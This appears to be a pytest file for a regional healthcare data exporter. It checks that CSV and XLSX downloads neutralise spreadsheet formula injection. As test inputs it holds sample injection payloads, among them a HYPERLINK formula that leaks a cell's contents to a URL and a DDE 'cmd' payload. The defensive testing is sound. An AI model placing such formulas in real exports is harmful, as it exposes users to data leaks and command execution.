"""Region text in the downloads is never a spreadsheet formula (issue 24, item 1; OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from build_scripts.cli import main
from build_scripts.render.downloads import _cell, to_csv, to_xlsx
from conftest import Project

NOORD = "data/regions/noord/2026.yaml"
FORMULA = '=HYPERLINK("https://example.org/?d="&A1,"klik")'
NETWERKEN = {  # one formula per care form: the cell is the list joined with ';', so each starts one cell
    "acute_zorg": FORMULA, "outreachende_zorg": "@SUM(1+1)*cmd|' /C calc'!A0", "klinische_zorg": "+31 6 1234",
    "beveiligde_zorg": "-1+1", "hoogspecialistische_ggz": "\tNetwerk", "hoogspecialistische_ziekenhuiszorg": "  =1+1",
}


def test_region_csv_neutralises_every_formula_and_keeps_numbers(project: Project, tmp_path, stub_charts) -> None:
    text = project.read(NOORD)
    for netwerk in NETWERKEN.values():
        text = text.replace("bovenregionale_netwerken: []", f"bovenregionale_netwerken: [{_yaml(netwerk)}]", 1)
    project.write(NOORD, text)
    assert [p for p in project.problems() if p.is_error] == []
    assert main(["--root", str(project.root), "export", "--out", str(tmp_path / "uit"), "--peildatum", "2026-06-01"]) == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "uit/downloads/regios/noord.csv").read_text(encoding="utf-8"))))
    cells = {r["zorgvorm"]: r["bovenregionale_netwerken"] for r in rows if r["jaar"] == "2026"}
    assert cells == {zorgvorm: f"'{netwerk}" for zorgvorm, netwerk in NETWERKEN.items()}
    acute = next(r for r in rows if r["jaar"] == "2026" and r["zorgvorm"] == "acute_zorg")
    assert (acute["verwachte_vraag"], acute["gemiddelde_wachttijd_weken"]) == ("1000", "6.5")


def _yaml(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t") + '"'


@pytest.mark.parametrize("text", [FORMULA, "+1", "-1", "@A1", "\t=1", " =1", "\n=1"])
def test_a_csv_cell_starting_like_a_formula_gets_an_apostrophe(text: str) -> None:
    data = to_csv((("tekst", ""), ("getal", "")), [{"tekst": text, "getal": -3}]).decode("utf-8")
    [row] = list(csv.reader(io.StringIO(data)))[1:]
    assert row == [f"'{text}", "-3"], "a negative number stays a number"


def test_a_carriage_return_first_is_neutralised_too() -> None:
    """OWASP lists CR; validation already refuses it in any value (a control character), this is the second line of defence."""
    assert _cell("\r=1+1") == "'\r=1+1" and _cell("Netwerk =1") == "Netwerk =1"


def test_xlsx_stores_formula_text_as_text() -> None:
    """openpyxl writes a string starting with '=' as a formula unless it is typed as text."""
    data = to_xlsx("t", (("tekst", ""), ("getal", "")), [{"tekst": FORMULA, "getal": -3}])
    sheet = load_workbook(io.BytesIO(data)).active
    assert [(c.value, c.data_type) for c in sheet[2]] == [(FORMULA, "s"), (-3, "n")]
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "HYPERLINK" in xml
